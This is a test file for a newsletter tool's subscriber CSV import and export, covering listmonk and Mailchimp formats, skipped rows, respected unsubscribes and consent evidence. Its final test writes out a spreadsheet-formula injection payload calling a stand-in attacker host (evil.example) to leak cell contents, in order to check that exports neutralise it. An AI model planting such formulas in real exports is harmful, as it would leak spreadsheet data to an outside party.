import { Readable } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../src/store/db.ts';
import { exportSubscribers } from '../../src/subscribers/export.ts';
import { ImportFormatError, importSubscribers } from '../../src/subscribers/import.ts';
import { findSubscriber, requestSubscription, unsubscribe } from '../../src/subscribers/store.ts';
import { storeBackends } from '../support/stores.ts';

const now = new Date('2026-02-01T00:00:00Z');

describe.each(storeBackends())('import and export on $name', ({ open }) => {
  let db: Db;
  let n = 0;
  const list = () => `import-${++n}`;
  const run = (publication: string, csv: string, batchSize?: number) =>
    importSubscribers(db, Readable.from([csv]), { publication, source: '/tmp/list.csv', now, batchSize });
  beforeAll(async () => {
    db = await open();
  });

  it('imports our own format and reports what it did', async () => {
    const publication = list();
    const report = await run(
      publication,
      'email,name,status\nann@Example.org,Ann,confirmed\nbob@example.org,,pending\n',
    );
    expect(report).toMatchObject({ imported: 2, updated: 0, skipped: 0 });
    expect(await findSubscriber(db, publication, 'ann@example.org')).toMatchObject({
      name: 'Ann',
      status: 'confirmed',
      source: 'import',
      consentMethod: 'import',
      consentEvidence: 'import of list.csv',
    });
  });

  it('reads listmonk and Mailchimp exports', async () => {
    const publication = list();
    const listmonk =
      'uuid,email,name,attributes,status,created_at,updated_at\n' +
      '5a1,ann@example.org,Ann,"{""city"": ""Bern""}",enabled,2024-01-01,2024-01-01\n' +
      '5a2,bob@example.org,Bob,{},blocklisted,2024-01-01,2024-01-01\n';
    expect(await run(publication, listmonk)).toMatchObject({ imported: 2 });
    expect(await findSubscriber(db, publication, 'bob@example.org')).toMatchObject({
      status: 'unsubscribed',
    });
    const mailchimp =
      '\uFEFF"Email Address","First Name","Last Name",MEMBER_RATING\n"cy@example.org","Cy","Young",2\n';
    expect(await run(publication, mailchimp)).toMatchObject({ imported: 1 });
    expect(await findSubscriber(db, publication, 'cy@example.org')).toMatchObject({
      name: 'Cy Young',
      status: 'confirmed',
    });
  });

  it('skips bad rows with the reason and line number', async () => {
    const report = await run(
      list(),
      'email,name,status\nnot-an-address,X,confirmed\nann@example.org,Ann,maybe\nbob@example.org,,\nbob@example.org,,\n',
    );
    expect(report).toMatchObject({ imported: 1, skipped: 3 });
    expect(Object.fromEntries(report.reasons)).toEqual({
      'invalid address': { count: 1, lines: [2] },
      'unknown status "maybe"': { count: 1, lines: [3] },
      'duplicate address in the file': { count: 1, lines: [4] },
    });
  });

  it("never re-subscribes someone who unsubscribed, but honours the old list's unsubscribes", async () => {
    const publication = list();
    const s = await requestSubscription(db, { publication, email: 'gone@example.org', source: 'email', now });
    await unsubscribe(db, s.id, now);
    await run(publication, 'email,status\nstays@example.org,confirmed\n');
    const report = await run(
      publication,
      'email,status\ngone@example.org,confirmed\nstays@example.org,unsubscribed\n',
    );
    expect(report).toMatchObject({ imported: 0, updated: 1, skipped: 1 });
    expect([...report.reasons.keys()]).toEqual([
      'unsubscribed earlier; only the subscriber can subscribe again',
    ]);
    expect(await findSubscriber(db, publication, 'gone@example.org')).toMatchObject({
      status: 'unsubscribed',
    });
    expect(await findSubscriber(db, publication, 'stays@example.org')).toMatchObject({
      status: 'unsubscribed',
    });
  });

  it('counts a re-import of the same file as unchanged, across batches', async () => {
    const publication = list();
    const csv = `email\n${Array.from({ length: 25 }, (_, i) => `u${i}@example.org`).join('\n')}\n`;
    expect(await run(publication, csv, 10)).toMatchObject({ imported: 25 });
    expect(await run(publication, csv, 10)).toMatchObject({ imported: 0, updated: 0, skipped: 25 });
  });

  it('refuses a file without an email column', async () => {
    await expect(run(list(), 'name,status\nAnn,confirmed\n')).rejects.toThrow(ImportFormatError);
  });

  it('exports CSV that imports back unchanged', async () => {
    const publication = list();
    await run(
      publication,
      'email,name,status\nann@example.org,"Ann, ""the"" First",confirmed\nbob@example.org,,unsubscribed\n',
    );
    const chunks: Buffer[] = [];
    const out = new (await import('node:stream')).PassThrough();
    out.on('data', (c: Buffer) => chunks.push(c));
    expect(await exportSubscribers(db, publication, out)).toBe(2);
    const csv = Buffer.concat(chunks).toString();
    const [header, first] = csv.split('\n');
    expect(header).toBe(
      'email,name,status,source,created_at,updated_at,confirmed_at,consent_method,consent_evidence,unsubscribed_at,language,format,pdf',
    );
    expect(first).toMatch(
      /^ann@example\.org,"Ann, ""the"" First",confirmed,import,2026-02-01T00:00:00\.000Z,/,
    );
    const copy = list();
    expect(await run(copy, csv)).toMatchObject({ imported: 2, skipped: 0 });
    expect(await findSubscriber(db, copy, 'bob@example.org')).toMatchObject({ status: 'unsubscribed' });
  });

  it("carries each reader's language, format and PDF through an export and back", async () => {
    const publication = list();
    await run(
      publication,
      'email,status,language,format,pdf\n' +
        'fr@example.org,confirmed,fr-CA,text,attach\n' +
        'plain@example.org,confirmed,,,\n' +
        'es@example.org,unsubscribed,es,notice,link\n',
    );
    expect(await findSubscriber(db, publication, 'fr@example.org')).toMatchObject({
      language: 'fr',
      format: 'text',
      pdf: 'attach',
    });
    const chunks: Buffer[] = [];
    const out = new (await import('node:stream')).PassThrough();
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportSubscribers(db, publication, out);
    const csv = Buffer.concat(chunks).toString();
    expect(csv).toMatch(/\nfr@example\.org,.*,fr,text,attach\n/);
    expect(csv).toMatch(/\nplain@example\.org,.*,,html,\n/);
    const copy = list();
    expect(await run(copy, csv)).toMatchObject({ imported: 3, skipped: 0 });
    for (const [email, choices] of [
      ['fr@example.org', { language: 'fr', format: 'text', pdf: 'attach', status: 'confirmed' }],
      ['plain@example.org', { language: null, format: 'html', pdf: null, status: 'confirmed' }],
      // The opt-out stays one: choices never make a reader of it.
      ['es@example.org', { language: 'es', format: 'notice', pdf: 'link', status: 'unsubscribed' }],
    ] as const)
      expect(await findSubscriber(db, copy, email)).toMatchObject(choices);
  });

  it('skips a row whose choices no reader can make, saying which; keeps the choices readers made', async () => {
    const publication = list();
    await run(publication, 'email,status,language\nkept@example.org,confirmed,fr\n');
    const report = await importSubscribers(
      db,
      Readable.from([
        'email,status,language,format,pdf\n' +
          'de@example.org,confirmed,de,html,\n' +
          'fax@example.org,confirmed,en,fax,\n' +
          'paper@example.org,confirmed,en,html,paper\n' +
          'kept@example.org,confirmed,es,text,attach\n',
      ]),
      { publication, source: 'choices.csv', now, languages: ['en', 'fr', 'es'] },
    );
    expect([...report.reasons.keys()]).toEqual([
      `language "de" is not one of the publication's (en, fr, es)`,
      'unknown format "fax"',
      'unknown pdf "paper"',
      'already present, unchanged',
    ]);
    expect(await findSubscriber(db, publication, 'de@example.org')).toBeUndefined();
    // A reader already on the list keeps the choices they made themselves.
    expect(await findSubscriber(db, publication, 'kept@example.org')).toMatchObject({
      language: 'fr',
      format: 'html',
      pdf: null,
    });
  });

  const MAILCHIMP =
    '"Email Address","First Name","Last Name",MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME,CONFIRM_IP,LATITUDE,LONGITUDE';
  const consentOf = async (publication: string, email: string) =>
    (
      await db.query<{ imported_consent: unknown }>(
        'SELECT imported_consent FROM subscribers WHERE publication = $1 AND email = $2',
        [publication, email],
      )
    ).rows[0]?.imported_consent;

  it("reads Mailchimp's unsubscribed export (UNSUB_TIME, no status) as unsubscribed, never confirmed", async () => {
    const publication = list();
    await run(publication, 'email,status\nwas-here@example.org,confirmed\n');
    const csv =
      `${MAILCHIMP},UNSUB_TIME,UNSUB_CAMPAIGN_TITLE,UNSUB_CAMPAIGN_ID,LEID,EUID,UNSUB_REASON\n` +
      '"gone@example.org","Gone","Away",2,"2019-03-05 14:22:10",198.51.100.7,"2019-03-05 14:30:00",198.51.100.7,,,"2021-06-01 09:00:00","Issue 4",abc,1,x,"No longer interested"\n' +
      '"Was-Here@example.org","Was","Here",2,,,,,,,"2022-01-02 03:04:05",,,2,y,\n';
    const report = await run(publication, csv);
    expect(report).toMatchObject({ imported: 1, updated: 1, skipped: 0 });
    expect(Object.fromEntries(report.statuses)).toEqual({ unsubscribed: 2 });
    expect(await findSubscriber(db, publication, 'gone@example.org')).toMatchObject({
      status: 'unsubscribed',
      unsubscribedAt: new Date('2021-06-01T09:00:00Z'),
      confirmedAt: null,
    });
    // The opt-out reaches the existing reader, whatever the capitalisation in the file.
    expect(await findSubscriber(db, publication, 'was-here@example.org')).toMatchObject({
      status: 'unsubscribed',
      unsubscribedAt: new Date('2022-01-02T03:04:05Z'),
    });
    expect(await consentOf(publication, 'gone@example.org')).toMatchObject({
      optin_time: '2019-03-05 14:22:10',
      unsub_time: '2021-06-01 09:00:00',
      unsub_reason: 'No longer interested',
    });
  });

  it("reads Mailchimp's cleaned export (CLEAN_TIME) as bounced, even with --status confirmed", async () => {
    const publication = list();
    const csv = `${MAILCHIMP},CLEAN_TIME,CLEAN_CAMPAIGN_TITLE,CLEAN_CAMPAIGN_ID,LEID,EUID\n"dead@example.org",,,1,,,,,,,"2020-01-01 00:00:00",x,y,1,z\n`;
    const report = await importSubscribers(db, Readable.from([csv]), {
      publication,
      source: 'cleaned.csv',
      now,
      defaultStatus: 'confirmed',
    });
    expect(report).toMatchObject({ imported: 1 });
    expect(await findSubscriber(db, publication, 'dead@example.org')).toMatchObject({ status: 'bounced' });
    expect(await run(publication, 'email,status\nDEAD@example.org,confirmed\n')).toMatchObject({
      imported: 0,
      skipped: 1,
    });
  });

  it("keeps Mailchimp's opt-in and confirmation evidence with the consent record", async () => {
    const publication = list();
    const csv = `${MAILCHIMP}\n"eve@example.org","Eve","Adams",3,"2018-05-01 10:00:00",192.0.2.1,"2018-05-01 10:05:00",192.0.2.2,46.9,7.4\n`;
    const report = await run(publication, csv);
    expect(report).toMatchObject({ imported: 1, withEvidence: 1 });
    expect(await findSubscriber(db, publication, 'eve@example.org')).toMatchObject({
      status: 'confirmed',
      confirmedAt: new Date('2018-05-01T10:05:00Z'),
      consentMethod: 'import',
      consentEvidence:
        'import of list.csv; opted in 2018-05-01 10:00:00 from 192.0.2.1; confirmed 2018-05-01 10:05:00 from 192.0.2.2',
    });
    expect(await consentOf(publication, 'eve@example.org')).toEqual({
      file: 'list.csv',
      optin_time: '2018-05-01 10:00:00',
      optin_ip: '192.0.2.1',
      confirm_time: '2018-05-01 10:05:00',
      confirm_ip: '192.0.2.2',
    });
  });

  it("keeps listmonk's created_at and attributes", async () => {
    const publication = list();
    const csv =
      'uuid,email,name,attributes,status,created_at,updated_at\n' +
      '5a1,fay@example.org,Fay,"{""city"": ""Bern"", ""consent"": ""form-2023""}",enabled,2023-04-05 06:07:08.123+00,2024-01-01\n';
    expect(await run(publication, csv)).toMatchObject({ imported: 1, withEvidence: 1 });
    expect(await consentOf(publication, 'fay@example.org')).toEqual({
      file: 'list.csv',
      created_at: '2023-04-05 06:07:08.123+00',
      attributes: { city: 'Bern', consent: 'form-2023' },
    });
    expect((await findSubscriber(db, publication, 'fay@example.org'))?.consentEvidence).toBe(
      'import of list.csv; joined 2023-04-05 06:07:08.123+00',
    );
  });

  it('an address blocklisted in one capitalisation is not imported as confirmed in another', async () => {
    const publication = list();
    const carol = await requestSubscription(db, {
      publication,
      email: 'Carol@example.org',
      source: 'web',
      now,
    });
    await unsubscribe(db, carol.id, now);
    const report = await run(
      publication,
      'email,status\ncarol@example.org,confirmed\nCAROL@EXAMPLE.ORG,confirmed\nDan@example.org,unsubscribed\ndan@example.org,confirmed\n',
    );
    expect(report).toMatchObject({ imported: 1, updated: 0, skipped: 3 });
    // Within the file too, one mailbox is one reader, and its opt-out wins over a later row.
    expect(Object.fromEntries(report.reasons)).toEqual({
      'duplicate address in the file': { count: 2, lines: [2, 5] },
      'unsubscribed earlier; only the subscriber can subscribe again': { count: 1, lines: [3] },
    });
    const { rows } = await db.query<{ email: string; status: string }>(
      'SELECT email, status FROM subscribers WHERE publication = $1 ORDER BY id',
      [publication],
    );
    expect(rows).toEqual([
      { email: 'Carol@example.org', status: 'unsubscribed' },
      { email: 'Dan@example.org', status: 'unsubscribed' },
    ]);
  });

  it('exports formulas as text, and imports them back as they were', async () => {
    const publication = list();
    const name = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    await requestSubscription(db, { publication, email: '-x@example.org', name, source: 'web', now });
    await requestSubscription(db, {
      publication,
      email: 'ok@example.org',
      name: '@SUM(1)',
      source: 'web',
      now,
    });
    await requestSubscription(db, {
      publication,
      email: 'p@example.org',
      name: '+1\t-2',
      source: 'web',
      now,
    });
    const chunks: Buffer[] = [];
    const out = new (await import('node:stream')).PassThrough();
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportSubscribers(db, publication, out);
    const lines = Buffer.concat(chunks).toString().split('\n');
    expect(lines[1]).toMatch(/^'-x@example\.org,"'=HYPERLINK\(""https:/);
    expect(lines[2]).toMatch(/^ok@example\.org,'@SUM\(1\),/);
    expect(lines[3]).toMatch(/^p@example\.org,'\+1\t-2,/);
    const copy = list();
    expect(await run(copy, lines.join('\n'))).toMatchObject({ imported: 3 });
    expect(await findSubscriber(db, copy, '-x@example.org')).toMatchObject({ name });
    expect(await findSubscriber(db, copy, 'ok@example.org')).toMatchObject({ name: '@SUM(1)' });
  });
});
